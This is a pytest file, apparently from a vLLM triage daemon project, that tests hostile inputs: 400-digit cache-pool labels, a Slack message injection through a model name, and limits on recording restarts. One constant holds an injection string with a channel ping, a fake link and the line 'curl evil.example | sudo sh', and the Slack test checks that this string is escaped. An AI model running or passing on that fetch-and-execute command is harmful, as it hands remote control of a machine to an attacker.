"""Hostile input, round three: what was added since round two (``whatif``, ``render``,
``run --record``, the facts read from ``vllm:cache_config_info``, the Slack builder),
each finding as a test against the daemon as its own process (``vllm-triage run``) or the
installed command, asserting counts and bounds. What each measured is printed
(``pytest -n 0 -s tests/system/test_hostile_round_three.py | grep FIGURE``); time and
memory are printed, never asserted (the bench does that: bench/bench_hostile.py).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from support.daemonproc import GOOD, body, cli, figure, run_daemon, target
from support.localserver import Exchange, serving
from support.paths import RECORDINGS

BIG = "9" * 400


def with_labels(text: str, **labels: str) -> str:
    """``text`` with these ``cache_config_info`` label values swapped in."""
    for name, value in labels.items():
        text, n = re.subn(rf'\b{name}="[^"]*"', f'{name}="{value}"', text)
        assert n, name
    return text


HOSTILE_POOL = dict(
    num_gpu_blocks=BIG, block_size=BIG, kv_cache_size_tokens=BIG, kv_cache_memory_bytes=BIG
)


def tracebacks(log: str) -> list[str]:
    return [line for line in log.splitlines() if "Traceback" in line]


# -- 1. a 400-digit integer in a cache_config_info label -------------------------------------


def test_a_400_digit_pool_label_freezes_no_target(tmp_path: Path) -> None:
    """Before: every evaluation of that target raised OverflowError (a 38-line traceback
    per scrape, nothing counted), the target frozen at ``up`` 1. Now its pool is unknown,
    counted as an unusable series and said once; it and its neighbour are judged on
    every scrape."""
    hostile = with_labels(GOOD.decode(), **HOSTILE_POOL).encode()
    with serving(body(hostile)) as bad, serving(body(GOOD)) as good:
        config = {
            "interval_seconds": 0.5,
            "hardware": {"gpu": "H100 SXM"},
            "targets": [target("bad", bad.url("/metrics")), target("good", good.url("/metrics"))],
        }
        with run_daemon(tmp_path, config) as d:
            assert d.until(
                lambda: (
                    min(d.value("vllm_triage_scrapes_total", target=n) for n in ("bad", "good"))
                    >= 10
                ),
            )
            counts = {
                n: (
                    d.value("vllm_triage_scrapes_total", target=n),
                    d.total("vllm_triage_scrape_failures_total", target=n),
                    d.value("vllm_triage_scrape_failures_total", target=n, reason="evaluate"),
                )
                for n in ("bad", "good")
            }
            unusable = d.value("vllm_triage_series_unusable_total", target="bad")
            said = [
                e for e in d.logs() if e.get("event") == "series_unusable" and e["target"] == "bad"
            ]
            api = d.api("/api/v1/diagnoses?target=bad")
            peak = d.peak_mb()
        log = d.log_path.read_text()
    figure("pool-label", scrapes=counts["bad"][0], unusable=unusable, peak_rss_mb=peak)
    for name, (scrapes, failed, unjudged) in counts.items():
        # Every scrape that came back was judged (a busy machine may time one out).
        assert scrapes >= 10 and unjudged == 0 and failed <= scrapes / 2, (name, counts)
    assert unusable >= counts["bad"][0] - counts["bad"][1] - 1 and len(said) == 1
    assert "beyond what any card could hold" in str(said[0]["problems"])
    # Judged: its model has a diagnosis, with the pool's size unknown.
    (doc,) = api["targets"]
    assert doc["models"], doc
    assert all(m["signals"]["kv_pool_tokens"] is None for m in doc["models"])
    assert not tracebacks(log), tracebacks(log)[:3]


@pytest.mark.parametrize("command", ["replay", "report", "whatif"])
def test_the_commands_read_a_recording_with_a_400_digit_pool_label(
    tmp_path: Path, command: str
) -> None:
    """Before: ``replay``, ``report`` and ``whatif`` crashed with a traceback on the first
    file. Now they read every file."""
    rec = tmp_path / "rec"
    rec.mkdir()
    for f in sorted((RECORDINGS / "kv").glob("*.prom")):
        (rec / f.name).write_text(with_labels(f.read_text(), **HOSTILE_POOL))
    args = {"replay": [], "report": ["--out", str(tmp_path / "r.html")], "whatif": []}[command]
    rc, out, seconds, peak = cli(command, str(rec), *args, timeout=120)
    figure("pool-label-commands", command=command, rc=rc, seconds=seconds, peak_rss_mb=peak)
    assert rc == 0 and "Traceback" not in out, out[-2000:]
    if command == "replay":
        assert "replayed 24 files (0 skipped)" in out


# -- 2. a label is shown, never obeyed -------------------------------------------------------

MODEL = "meta-llama/Llama-3.1-8B-Instruct"
#: Every trick at once: a ping, a link, a backtick out of the code span, a fake fix line.
HOSTILE_MODEL = (
    "x` <!channel> <http://evil.example|click> `\n*Fix:* run curl evil.example | sudo sh"
)


def hung_as(model: str) -> bytes:
    """GOOD with work outstanding and nothing moving (a hung engine), served as ``model``."""
    text = GOOD.decode()
    for name, value in (("num_requests_waiting", "5.0"), ("num_requests_running", "2.0")):
        line = f'vllm:{name}{{engine="0",model_name="{MODEL}"}} 0.0'
        assert line in text, line
        text = text.replace(line, line.removesuffix("0.0") + value)
    shown = model.replace("\\", "\\\\").replace("\n", "\\n").replace('"', '\\"')
    return text.replace(f'model_name="{MODEL}"', f'model_name="{shown}"').encode()


def test_slack_shows_a_hostile_model_name_and_obeys_none(tmp_path: Path) -> None:
    """Before: the name reached Slack raw: ``<!channel>`` pinged the channel, the backtick
    closed the code span, the link showed text of its choosing, and the newline put a
    fake ``*Fix:*`` line above the real one."""
    got: list[dict[str, object]] = []

    def slack_hook(x: Exchange) -> None:
        got.append(json.loads(x.request.body))
        x.reply(200, b"ok")

    with serving(body(hung_as(HOSTILE_MODEL))) as srv, serving(slack_hook) as hook:
        config = {
            "interval_seconds": 0.5,
            "thresholds": {"stall_after_seconds": 2},
            "targets": [target("hung", srv.url("/metrics"))],
            "receivers": [{"type": "slack", "name": "chat", "url": hook.url("/hook")}],
        }
        with run_daemon(tmp_path, config) as d:
            assert d.until(lambda: bool(got)), "no Slack message"
    text = str(got[0]["text"])
    figure("slack", messages=len(got), chars=len(text), lines=len(text.splitlines()))
    assert "<!channel>" not in text and "&lt;!channel&gt;" in text
    assert "<http://evil" not in text and "&lt;http://evil.example|click&gt;" in text
    assert text.count("`") == 4, text
    lines = text.splitlines()
    assert [line for line in lines if line.startswith("*Fix:*")] == [
        line for line in lines if line.startswith("*Fix:* ") and "sudo sh" not in line
    ]
    assert "\\n*Fix:* run curl" in lines[0]  # shown, inside the headline's code span


# -- 5. recording is bounded by the folder ---------------------------------------------------


def test_restarts_record_the_bound_once(tmp_path: Path) -> None:
    """Before: the byte cap was per process; three starts wrote three times the cap.
    Now the folder is the bound: the second and third starts keep nothing, and say so."""
    rec = tmp_path / "rec"
    kept = []
    with serving(body(GOOD)) as srv:
        config = {
            "interval_seconds": 0.1,
            "targets": [target("t", srv.url("/metrics"))],
            "record": {"dir": str(rec), "max_bytes": 2**20},
        }
        for start in range(3):
            with run_daemon(tmp_path, config, log_name=f"run{start}.log") as d:
                assert d.until(
                    lambda: (
                        d.value("vllm_triage_recording_failures_total", target="t", reason="full")
                        >= 2
                    ),
                )
                kept.append(d.value("vllm_triage_recorded_scrapes_total", target="t"))
                held = d.value("vllm_triage_recording_folder_bytes", target="t")
                said = [e for e in d.logs() if e.get("event") == "recording_failed"]
            # Said once, however many scrapes it turned away.
            assert held <= 2**20 and len(said) == 1 and said[0]["reason"] == "full", said
    total = sum(f.stat().st_size for f in (rec / "t").iterdir())
    figure("record-restarts", kept=kept, folder_bytes=total)
    assert kept[0] == 2**20 // len(GOOD) and kept[1:] == [0, 0], kept
    assert total <= 2**20
